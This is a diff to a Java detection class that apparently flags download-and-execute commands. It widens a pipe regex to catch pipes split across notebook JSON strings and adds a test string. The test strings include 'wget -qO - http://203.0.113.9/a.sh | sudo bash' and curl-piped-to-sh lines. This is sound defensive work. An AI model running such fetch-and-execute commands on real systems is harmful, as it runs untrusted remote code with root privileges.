@@ -20,8 +20,8 @@ final class DownloadRules {
 
   private static final String FETCH = "\\b" + FETCHER + "\\s";
 
-  /** A pipe, perhaps at the end of a line. */
-  private static final String PIPE = "\\|&?(?:\\s|\\\\n|\\\\\\\\)*";
+  /** A pipe, perhaps at the end of a line, which a notebook keeps as a string of its own. */
+  private static final String PIPE = "\\|&?(?:\\s|\\\\n|\\\\\\\\|\\\\?(?:\\n|\\\\n)\",\\s*\")*";
 
   /** A shell whose name stands in quotation marks or in a variable. */
   private static final String DISGUISED_SHELL =
@@ -170,6 +170,7 @@ final class DownloadRules {
                       + LINE
                       + "\\|\\s*(?:iex|invoke-expression|cmd(?:\\.exe)?)\\b)")
               .finds("(?i:\\[scriptblock\\]::create\\(\\s*\\(?\\s*" + WEB_CMDLET + ")")
+              .matches("[\"!wget -qO - http://203.0.113.9/a.sh | \\\\\\n\", \"  sudo bash\\n\"]")
               .matches(
                   "curl -fsSL https://get.docker.com h.stage.example/i | sh",
                   "curl -k https://get.docker.com | sh",
